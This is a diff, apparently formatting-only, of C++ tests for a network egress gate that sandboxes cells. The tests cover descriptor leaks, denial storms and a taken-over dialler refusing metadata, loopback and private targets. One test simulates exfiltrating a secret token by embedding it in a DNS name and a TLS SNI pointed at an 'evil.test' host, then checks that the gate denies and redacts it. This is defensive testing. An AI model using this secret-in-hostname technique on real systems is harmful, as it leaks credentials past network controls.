@@ -1,6 +1,6 @@
 // SPDX-License-Identifier: Apache-2.0
-// Rows PK of the threats that are about the gate itself: its end, storms, descriptors, the edges of a cell's life, and a
-// gate that was taken over.
+// Rows PK of the threats that are about the gate itself: its end, storms, descriptors, the edges of a cell's life, and
+// a gate that was taken over.
 #include <signal.h>
 #include <sys/stat.h>
 #include <unistd.h>
@@ -45,7 +45,8 @@ class Gate : public NetTest {
   static int Descriptors(pid_t pid) {
     std::error_code error;
     int count = 0;
-    for (const auto& entry : fs::directory_iterator("/proc/" + std::to_string(pid) + "/fd", error)) count += entry.path().empty() ? 0 : 1;
+    for (const auto& entry : fs::directory_iterator("/proc/" + std::to_string(pid) + "/fd", error))
+      count += entry.path().empty() ? 0 : 1;
     return error ? -1 : count;
   }
   // A steady flow, an act upon the gate in the middle of it, and the end that follows.
@@ -72,9 +73,12 @@ TEST_P(Gate, PK08_DescriptorsThatAreSentAreNotKept) {
   net.delivery = "runtimeBroker";
   net.authority = R"("secretRefs":["TOKEN"])";
   How how = {.environment = {"CELLOS_SECRET_TOKEN=kanarienvogel-descriptor"}};
-  const Started started = StartTrial(net, {"first descriptors /run/cellos/secrets/broker.sock count=200", "--", "ready listen 7001 ms=700",
-                                           "--", "many descriptors /run/cellos/secrets/broker.sock count=10000", "--",
-                                           "ready2 listen 7002 ms=700", "--", "twin tcp " + At(80) + " 5432 send=hi want=2"}, how);
+  const Started started =
+      StartTrial(net,
+                 {"first descriptors /run/cellos/secrets/broker.sock count=200", "--", "ready listen 7001 ms=700", "--",
+                  "many descriptors /run/cellos/secrets/broker.sock count=10000", "--", "ready2 listen 7002 ms=700",
+                  "--", "twin tcp " + At(80) + " 5432 send=hi want=2"},
+                 how);
   const auto count_after = [&](const std::string& mark) {
     EXPECT_TRUE(WaitForOutput(mark)) << mark;
     ::usleep(100'000);
@@ -146,13 +150,15 @@ TEST_P(Gate, PK17_ACellEndsWithItsGate) {
 
 TEST_P(Gate, PK18_AStormOfDenialsIsCountedExactly) {
   World().Forget();
-  const Trial trial =
-      TryAll(Document(), {"storm storm " + At(99) + " 443 " + Server() + " storm-denied.test connects=3000 queries=20000",
-                          "bulk bulk " + At(80) + " 5432 bytes=33554432"});
+  const Trial trial = TryAll(
+      Document(), {"storm storm " + At(99) + " 443 " + Server() + " storm-denied.test connects=3000 queries=20000",
+                   "bulk bulk " + At(80) + " 5432 bytes=33554432"});
   EXPECT_TRUE(Said(trial, "bulk", {"bytes:33554432"})) << "a granted flow moves on";
   int connected = 0, refused = 0, failed = 0, asked = 0;
-  ASSERT_EQ(std::sscanf(trial.Said("storm").c_str(), "connected:%d,refused:%d,failed:%d,asked:%d", &connected, &refused, &failed,
-                        &asked), 4) << trial.Said("storm");
+  ASSERT_EQ(std::sscanf(trial.Said("storm").c_str(), "connected:%d,refused:%d,failed:%d,asked:%d", &connected, &refused,
+                        &failed, &asked),
+            4)
+      << trial.Said("storm");
   EXPECT_EQ(failed, 0);
   EXPECT_EQ(connected + refused, 3000);
   EXPECT_EQ(trial.Sum(kFlow, {"\"decision\":\"deny\"", "gate_not_answered"}), 3000u);
@@ -172,9 +178,11 @@ TEST_P(Gate, SE04_ASecretInsideANameIsReplacedInTheRecord) {
   Net net = Document();
   net.authority = R"("secretRefs":["TOKEN"])";
   How how = {.environment = {"CELLOS_SECRET_TOKEN=" + canary}};
-  const Trial trial = TryAll(net, {"label dns " + Server() + " " + canary + ".evil.test " + (v6() ? "AAAA" : "A"),
-                                   "ask dns " + Server() + " storm.test " + (v6() ? "AAAA" : "A"), "--",
-                                   "sni tls " + At(83) + " 443 sni=" + canary + ".evil.test"}, how);
+  const Trial trial = TryAll(net,
+                             {"label dns " + Server() + " " + canary + ".evil.test " + (v6() ? "AAAA" : "A"),
+                              "ask dns " + Server() + " storm.test " + (v6() ? "AAAA" : "A"), "--",
+                              "sni tls " + At(83) + " 443 sni=" + canary + ".evil.test"},
+                             how);
   EXPECT_TRUE(trial.Logged(kDns, {".evil.test", "denied_not_in_allowlist"})) << "the fact stays";
   EXPECT_TRUE(trial.Logged("observability.v1.l7_egress_decision", {".evil.test", "l7_sni_allowlist_miss"}));
   std::string holding;
@@ -212,9 +220,9 @@ TEST_P(TakenOver, PK19_TheDiallerRefusesWhatNoRuleGrants) {
     return report.substr(begin, report.find(';', begin) - begin);
   };
   for (const char* attempt :
-       {"metadata4", "metadata6", "metadata-by-name-rule", "host4", "host6", "loopback4", "loopback6", "mapped", "private4",
-        "private6", "other-port", "other-address", "wrong-index", "no-such-index", "udp-of-tcp-rule", "resolver-as-flow",
-        "flow-as-resolver", "resolver-other-port"}) {
+       {"metadata4", "metadata6", "metadata-by-name-rule", "host4", "host6", "loopback4", "loopback6", "mapped",
+        "private4", "private6", "other-port", "other-address", "wrong-index", "no-such-index", "udp-of-tcp-rule",
+        "resolver-as-flow", "flow-as-resolver", "resolver-other-port"}) {
     EXPECT_EQ(answer(attempt), "EPERM") << attempt;
   }
   EXPECT_EQ(answer("twin-granted"), "0") << "what a rule grants";
@@ -227,7 +235,8 @@ TEST_P(TakenOver, PK19_TheDiallerRefusesWhatNoRuleGrants) {
 TEST_P(TakenOver, PK19_ALockedGateThatTriesMoreEndsItsCell) {
   Words attempts = {"sendto", "sendmsg", "socket"};
   if (!v6()) {
-    for (const char* more : {"netlink", "connect", "bind", "dup", "duplicate", "fork", "execute", "code", "trace", "unshare"})
+    for (const char* more :
+         {"netlink", "connect", "bind", "dup", "duplicate", "fork", "execute", "code", "trace", "unshare"})
       attempts.push_back(more);
   }
   for (const std::string& attempt : attempts) {
